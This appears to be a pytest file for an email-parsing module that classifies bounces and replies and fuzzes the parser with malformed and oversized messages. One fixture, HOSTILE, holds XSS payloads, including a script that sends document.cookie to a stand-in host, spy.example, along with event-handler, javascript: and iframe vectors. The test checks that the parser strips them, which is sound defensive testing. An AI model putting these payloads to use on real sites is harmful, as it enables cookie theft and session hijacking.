"""Reading mail of strangers: reports, answers, and what is meant to do harm."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from duly.collections.rules.incoming import Arrived, sort_out
from duly.interfaces.exchange.couriers.arrivals import MOST_TEXT, read_mail
from incoming_mails import bounce, daemon_words, reply

OURS = f"<{'0123456789abcdef' * 2}.7@northwind.example>"
TO = "ap@meridian.example"


@pytest.mark.parametrize("given_back", ["text/rfc822-headers", "message/rfc822"])
def test_a_report_and_what_it_gives_back(given_back: str) -> None:
    mail = read_mail(bounce(OURS, TO, given_back=given_back))
    assert OURS in mail.refers_to
    assert mail.is_from_nobody
    told = sort_out(mail)
    assert (told.kind, told.severity, told.addresses) == ("bounce", "hard", (TO,))
    assert told.why == "5.1.1 smtp; 550 5.1.1 no such user"


def test_words_of_a_daemon() -> None:
    mail = read_mail(daemon_words(OURS, TO))
    assert mail.refers_to == (OURS,)
    told = sort_out(mail)
    assert (told.kind, told.severity, told.addresses) == ("bounce", "unclear", (TO,))


@pytest.mark.parametrize(
    "harm",
    [
        (b"message/delivery-status", b"text/plain"),  # the part for machines is missing
        (b"Final-Recipient: rfc822; ap@meridian.example\r\n", b"Final-Recipient: nobody\r\n"),
        (b"Action: failed\r\n", b""),
        (b"\r\n\r\nFinal-Recipient", b"\r\nFinal-Recipient"),  # both blocks are one
        (b"--B--", b""),  # cut off
        (b"--B\r\nContent-Type: message/delivery-status", b"--C\r\nContent-Type: nonsense"),
        (b"Status: 5.1.1", b"Status: \xff\xfe5..1"),
        (b'boundary="B"', b'boundary=""'),
        (b"Subject: Undelivered", b"Subject: =?utf-8?b?////?= =?x?q?=ff?= Undelivered"),
    ],
)
def test_a_report_that_is_broken_is_read_as_far_as_it_goes(harm: tuple[bytes, bytes]) -> None:
    raw = bounce(OURS, TO)
    broken = raw.replace(*harm)
    assert broken != raw
    told = sort_out(read_mail(broken))
    assert told.kind in ("bounce", "auto_reply")
    assert told.severity in ("hard", "unclear", "")


def test_an_answer() -> None:
    mail = read_mail(reply(OURS, References=f"<other@x> {OURS}").as_bytes())
    assert (mail.sender, mail.sender_name) == ("ann@meridian.example", "Ann Lee")
    assert mail.refers_to == (OURS, "<other@x>")
    assert mail.text == "It was paid on Friday."
    assert str(mail.sent_at) == "2026-03-10 10:00:00+00:00"
    assert sort_out(mail).kind == "reply"


HOSTILE = """<html><head><title>t</title><style>body{background:url(http://spy.example)}</style>
<script>fetch('http://spy.example/?c='+document.cookie)</script></head>
<body onload="alert(1)"><p>Paid on <b>Friday</b></p><img src=x onerror=alert(1)>
<svg><script>alert(2)</script></svg><a href="javascript:alert(3)">click here</a>
<iframe src="http://spy.example"></iframe><form action="http://spy.example"><input name=p></form>
<p>&lt;script&gt;alert(4)&lt;/script&gt;</p>&#x202e;desrever</body></html>"""


def test_of_hostile_html_the_words_are_kept() -> None:
    mail = reply()
    mail.clear_content()
    mail.set_content(HOSTILE, subtype="html")
    text = read_mail(mail.as_bytes()).text
    assert "Paid on Friday" in text
    assert "click here" in text
    for part in ("http://", "javascript:", "alert(1)", "alert(2)", "onerror", "\u202e", "url("):
        assert part not in text
    assert "<script>alert(4)</script>" in text  # text it was, and text it stays; pages escape it


def test_plain_words_go_before_markup() -> None:
    mail = reply(text="Plain.")
    mail.add_alternative("<p>Marked up.</p>", subtype="html")
    mail.add_attachment(b"%PDF", maintype="application", subtype="pdf", filename="remit.pdf")
    told = read_mail(mail.as_bytes())
    assert told.text == "Plain."
    assert told.enclosed == ("remit.pdf",)


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\x00" * 1000,
        b"From\r\n\r\n",
        b"From: a@b\r\nContent-Type: text/plain; charset=no-such\r\n\r\n\xff\xfe",
        b"From: =?utf-8?q?" + b"=ff" * 500 + b"?= <a@b>\r\n\r\nx",
        b"From: " + b"a" * 100_000 + b"@b\r\n\r\nx",
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 5_000,
        b"".join(
            b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
            for n in range(2_000)
        ),
        b"Content-Type: text/html\r\n\r\n" + b"<div>" * 40_000,
        b"Content-Type: text/html\r\n\r\n" + b"<" * 100_000,
        b"Content-Type: text/html\r\n\r\n" + b"<!" + b"[" * 50_000,
        b"Date: Tue, 99 Foo 99999 25:61:61 +9999\r\nMessage-ID: <<>>\r\n\r\nx",
        b"References: " + b"<a@b> " * 20_000 + b"\r\n\r\nx",
        b"Message-ID: <\xff\x00\xfe@x>\r\nFrom: \xff\xfe <\xff@\xfe>\r\nSubject: \xe4\x00\r\n\r\nx",
        b'Content-Disposition: attachment; filename="\xff\x00.pdf"\r\n\r\nx',
        b"Subject: " + b"(" * 20_000 + b"\r\nFrom: " + b"(" * 20_000 + b"\r\n\r\nx",
        b"Content-Type: text/plain; charset=unicode_escape\r\n\r\nhello \\ud800 x",
        b"Content-Type: text/plain; charset=utf-7\r\n\r\n+2AA- +AAA-",
        b"Content-Type: text/plain\r\n\r\nx" + b" " * 250_000 + b"x",
        b"X-Failed-Recipients: " + b"a" * 250_000 + b"\r\n\r\nx",
    ],
)
def test_no_mail_stops_the_reading(raw: bytes) -> None:
    began = time.process_time()
    mail = read_mail(raw)
    assert time.process_time() - began < 5
    assert len(mail.text) <= MOST_TEXT
    assert len(mail.sender) <= 254
    assert len(mail.subject) <= 400
    assert 2 < len(mail.mail_id) <= 255
    assert_storable(mail)
    sort_out(mail)


def assert_storable(mail: Arrived) -> None:
    """No half of a character and no zero, which databases refuse."""
    texts = [mail.mail_id, mail.sender, mail.sender_name, mail.subject, mail.text]
    texts += [*mail.enclosed, *mail.refers_to, *mail.failed_recipients]
    texts += [part for report in mail.reports for part in report[:4]]
    assert "\0" not in "".join(texts).encode().decode()


def test_what_is_too_long_is_cut_and_says_so() -> None:
    mail = read_mail(reply(text="word " * 10_000).as_bytes())
    assert (len(mail.text), mail.is_cut) == (MOST_TEXT, True)
    assert read_mail(reply().as_bytes(), size=10_000_000).is_cut


@given(st.binary(max_size=300), st.integers(0, 1_500), st.integers(0, 40))
def test_any_bytes_anywhere_in_a_report(noise: bytes, place: int, dropped: int) -> None:
    raw = bounce(OURS, TO)
    mail = read_mail(raw[:place] + noise + raw[place + dropped :])
    assert sort_out(mail).kind in ("reply", "auto_reply", "bounce", "delay", "other")
    assert_storable(mail)
